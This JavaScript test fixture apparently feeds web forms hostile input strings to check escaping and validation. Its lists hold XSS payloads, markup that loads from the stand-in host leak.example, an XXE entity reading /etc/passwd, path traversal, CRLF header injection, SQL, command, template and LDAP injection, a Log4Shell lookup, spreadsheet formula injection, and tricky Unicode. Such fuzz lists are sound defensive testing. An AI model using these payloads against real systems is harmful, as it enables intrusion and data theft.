// Strings that people, or those who mean harm, may send in any field. What would run calls ran() or a dialog; what would
// load asks leak.example: the tests watch for both.
const LEAK = 'https://leak.example/x';
const times = (text, n) => text.repeat(n);

const MARKUP = [
    '<script>ran(1)</script>', '<script src="https://leak.example/a.js"></script>', '"><script>ran(2)</script>', "'><script>ran(3)</script>",
    '</script><script>ran(4)</script>', '<ScRiPt>ran(5)</sCrIpT>', '<scr<script>ipt>ran(6)</scr</script>ipt>', '<script\x20type="module">ran(7)</script>',
    '<script/x>ran(8)</script>', '<script\n>ran(9)</script\n>', '<<script>ran(10);//<</script>', '<script>ran(11)', '&lt;script&gt;ran(12)&lt;/script&gt;',
    '&#60;script&#62;ran(13)&#60;/script&#62;', '\\u003cscript\\u003eran(14)\\u003c/script\\u003e', '%3Cscript%3Eran(15)%3C/script%3E',
    '<img src=x onerror=ran(16)>', '<img src="https://leak.example/i.png">', '<img srcset="https://leak.example/i.png 2x">', '<IMG """><SCRIPT>ran(17)</SCRIPT>">',
    '<img src=x:x onerror\x0b=ran(18)>', '<img/src=`x`onerror=ran(19)>', '<svg onload=ran(20)>', '<svg><script>ran(21)</script></svg>',
    '<svg><animate onbegin=ran(22) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><a/></svg>#x"/>',
    '<svg><image href="https://leak.example/s.png"/></svg>', '<svg><foreignObject><body onload=ran(23)></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran(24)&gt;">', '<math href="javascript:ran(25)">x</math>',
    '<iframe src="javascript:ran(26)"></iframe>', '<iframe srcdoc="<script>parent.ran(27)</script>"></iframe>', `<iframe src="${LEAK}"></iframe>`,
    `<object data="${LEAK}"></object>`, `<embed src="${LEAK}">`, '<embed src="data:text/html,<script>ran(28)</script>">', '<body onload=ran(29)>', '<body background="https://leak.example/b">',
    '<details open ontoggle=ran(30)>', '<video><source onerror=ran(31)></video>', '<video poster="https://leak.example/p"></video>', '<audio src=x onerror=ran(32)>',
    '<marquee onstart=ran(33)>', '<input autofocus onfocus=ran(34)>', '<select autofocus onfocus=ran(35)>', '<textarea autofocus onfocus=ran(36)>', '<keygen autofocus onfocus=ran(37)>',
    '<form action="https://leak.example/f"><input type=submit></form>', '<button formaction="javascript:ran(38)">x</button>', '<isindex type=image src=1 onerror=ran(39)>',
    '<meta http-equiv="refresh" content="0;url=https://leak.example/m">', '<base href="https://leak.example/">', '<link rel=stylesheet href="https://leak.example/c.css">',
    '<link rel=prefetch href="https://leak.example/p">', '<link rel="dns-prefetch" href="//leak.example">', '<style>*{display:none!important}</style>', '<style>@import "https://leak.example/i.css";</style>',
    '<table background="https://leak.example/t">', '<frameset onload=ran(40)>', '<a href="javascript:ran(41)">click</a>', '<a href="https://leak.example" ping="https://leak.example/ping">x</a>',
    '<template><script>ran(42)</script></template>', '<noscript><p title="</noscript><img src=x onerror=ran(43)>">', '<xmp><p title="</xmp><svg onload=ran(44)>">', '<!--><img src=x onerror=ran(45)>-->',
    '<![CDATA[<script>ran(46)</script>]]>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '<title>taken</title>', '</title><script>ran(47)</script>', '</textarea><script>ran(48)</script>',
    '</style><script>ran(49)</script>', '</pre></div></main></body></html>', '<plaintext>', '<dialog open>Your session has ended</dialog>', '<x contenteditable onblur=ran(50) tabindex=1>x</x>', '<div popover id=p onbeforetoggle=ran(51)>',
];

const ATTRIBUTES = [
    '" onmouseover="ran(52)', "' onmouseover='ran(53)", '` onmouseover=ran(54) `', '" autofocus onfocus="ran(55)" x="', "'-ran(56)-'", '"-ran(57)-"', '";ran(58);//', "';ran(59);//", '\\";ran(60);//', '`;ran(61);`',
    '"><img src=x onerror=ran(62)>', "'/><svg/onload=ran(63)>", '" style="position:fixed;inset:0;background:red', '" class="offscreen', '" id="navigation', '" href="javascript:ran(64)', '" data-index="0', 'x" accesskey="x" onclick="ran(65)" y="', '=""', '&quot; onload=&quot;ran(66)',
];

const ADDRESSES = [
    'javascript:ran(67)', 'JaVaScRiPt:ran(68)', 'java\tscript:ran(69)', 'java\nscript:ran(70)', '\x01javascript:ran(71)', 'javascript://%0aran(72)', 'javascript&colon;ran(73)', 'vbscript:ran(74)', 'data:text/html,<script>ran(75)</script>',
    'data:text/html;base64,PHNjcmlwdD5yYW4oNzYpPC9zY3JpcHQ+', 'blob:https://leak.example/1', 'file:///etc/passwd', '//leak.example/x', '\\\\leak.example\\x', '/\\leak.example', 'https://leak.example/%00', 'http://leak.example:80/', 'ftp://leak.example/x', 'mailto:x@leak.example', 'tel:+1900555',
    '../../settings', '../../../v1/session', '..%2f..%2fv1%2ftokens', '%2e%2e/%2e%2e/', './', '/', '//', '?type=x', '?cursor=%00', '#', '#event-1', '?a=1&b=2#c', '%', '%zz', '%00', '%C0%AF', '%E2%80%AE', 'a%0d%0aSet-Cookie:%20x=1', 'a\r\nSet-Cookie: x=1', 'x;y=z', 'a b', 'a+b', 'a&amp;b', 'sign-in', 'settings', 'index.html', '.', '..', '...', '~root', 'con', 'nul.txt',
];

const TEMPLATES = [
    '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{constructor.constructor("ran(77)")()}}', '${ran(78)}', '`${ran(79)}`', '[[${7*7}]]', '{%raw%}', '*{7*7}', '@(7*7)', '{{=7*7}}', '$(id)', '`id`', '|id', ';id', '&& id', "' OR '1'='1", "'; DROP TABLE events; --", '" UNION SELECT 1 --', '*)(uid=*))(|(uid=*', '%n%n%n%n%s%s%s', '%x%x%x', '${jndi:ldap://leak.example/a}', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'undefined', 'null', 'NaN', 'true', '[object Object]', '{"__proto__":{"x":1}}', 'dangerouslySetInnerHTML', 'key', 'ref', 'children',
];

const STYLES = [
    'expression(ran(80))', 'url(https://leak.example/u)', '}</style><script>ran(81)</script>', 'color:red;position:fixed', ';background:url(//leak.example)', '*{display:none}', 'body{visibility:hidden}', '@import url(//leak.example)', 'x;}*{color:transparent}', '-moz-binding:url(//leak.example)', 'type-x" style="display:none', 'expanded open active',
];

const DIRECTIONS = [
    '\u202Egnp.exe', '\u202Dleft', '\u2066isolate', '\u2067right\u2069', '\u2068first', 'user\u202E moc.elpmaxe@', 'a\u200Fb', 'a\u200Eb', '\u061Cmark', '\u202A\u202B\u202C', times('\u202E', 50), 'שלום עולם', 'مرحبا بالعالم', 'مرحبا hello שלום 123', '\u202E\u202Eevil\u202C', 'فاکتور ۱۲۳۴', 'שלום) "x" (abc', 'ޝީޝެ', '\u2067\u2067\u2067nested', 'abc\u202Ecba\u202C!',
];

const UNSEEN = [
    '\u200B', 'a\u200Bb', 'a\u200Cb', 'a\u200Db', '\uFEFFbegin', 'a\u00ADb', '\u2060\u2061\u2062', 'a\u034Fb', '\u180E', '\u3164', '\uFFA0', '\u115F\u1160', '\u2800', 'a\u00A0b', '\u2003wide\u2003', '\u3000', ' lead and trail ', '\t\ttabs', '\n\n\nlines\n', 'a\u2028b\u2029c', '\uFE0F', '\u{E0001}\u{E0041}', '\u{E0020}tag', '\u17B4\u17B5', times('\u200B', 300), ' ',
];

const LETTERS = [
    '👍', '👩‍👩‍👧‍👦', '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '👨🏿‍🚀', '🇩🇪🇩🇪🇩', '1️⃣', times('👩‍❤️‍💋‍👨', 40), '☃︎', 'Z̗͕̺̦̰͖̀ͅa̴l̷g̸o̵', times('e\u0301', 80), `o${times('\u0337\u0322\u0330', 60)}`, `a${times('\u030A', 200)}`, '﷽﷽﷽﷽', '𒐫𒐫𒐫', '𝕳𝖊𝖑𝖑𝖔', 'Ａｄｍｉｎ', 'аdmin', 'ｈｔｔｐ：／／ｌｅａｋ', 'ﬁnance', 'ß ẞ ı İ ſ', 'ǅ', '\u1E9B\u0323', '漢字かな交じり文', '한국어', 'ภาษาไทยไม่มีช่องว่างระหว่างคำ', 'ꦏꦺꦴꦫꦺꦴ', 'ᚠᛇᚻ', '\u{10FFFF}', '\u{1F9FF}', '\uFFFD', '\uFFFE', '\uE000', 'Ω≈ç√∫˜µ≤≥÷', '¯\\_(ツ)_/¯', '(╯°□°）╯︵ ┻━┻', '\u0BA8\u0BBF\u0BA8\u0BBF', 'क्षि',
];

const CONTROLS = [
    '\u0000', 'a\u0000b', '\u0007bell', '\u0008\u0008back', '\u001B[31mred\u001B[0m', '\u001B]0;title\u0007', '\u001B[2J', '\u007F', '\u0080\u009F', '\u0085next', '\u009B31m', '\r', '\r\n', 'a\rb', '\u000B\u000C', '\u0001\u0002\u0003\u0004', '\u001A', '\u001F', '\\u0000', '\\x00', '\\', '\\\\', '\\n', '\\"',
];

const SHEETS = ['=1+1', '=HYPERLINK("https://leak.example","x")', '+1', '-1+1', '@SUM(1)', '=cmd|\'/c calc\'!A1', '\t=1', '\r=1', '=IMPORTXML("https://leak.example","//a")', '"=1"', 'a,b;c\td', '"'];

const NUMBERS = ['0', '-0', '1e309', '-1e309', '9007199254740993', '18446744073709551616', times('9', 250), '0x7fffffff', '1.0000000000000001', '٣', '１２３', '½', '1,000', '0000001', '-1', '1e-400', '2147483648', '00'];

const LONG = [
    times('W', 250), times('i', 250), times('longwordwithoutend', 14), times('a ', 125), times('\u00AD', 120), times('/', 250), times('.', 250), times('_', 250), times('漢', 80), times('🚲', 60), times('<', 250), times('&', 250), times('"', 250), times('a-', 125), times('-', 250), times('A', 63) + '.example.com', `${times('x', 120)}@${times('y', 100)}.example`, times('\u0301', 120), times('م', 120), times('line\n', 45), times('\n', 200), times('\t', 200),
];

export const HOSTILE = [...MARKUP, ...ATTRIBUTES, ...ADDRESSES, ...TEMPLATES, ...STYLES, ...DIRECTIONS, ...UNSEEN, ...LETTERS, ...CONTROLS, ...SHEETS, ...NUMBERS, ...LONG];

// What is too long for an id, and none the less may be said.
export const ENDLESS = [times('W', 5000), times('word ', 1500), times('\u202E', 1000), times('👩‍👩‍👧‍👦', 200), `x${times('\u0337', 1500)}`, times('<b>', 2000), times('\n', 1000)];
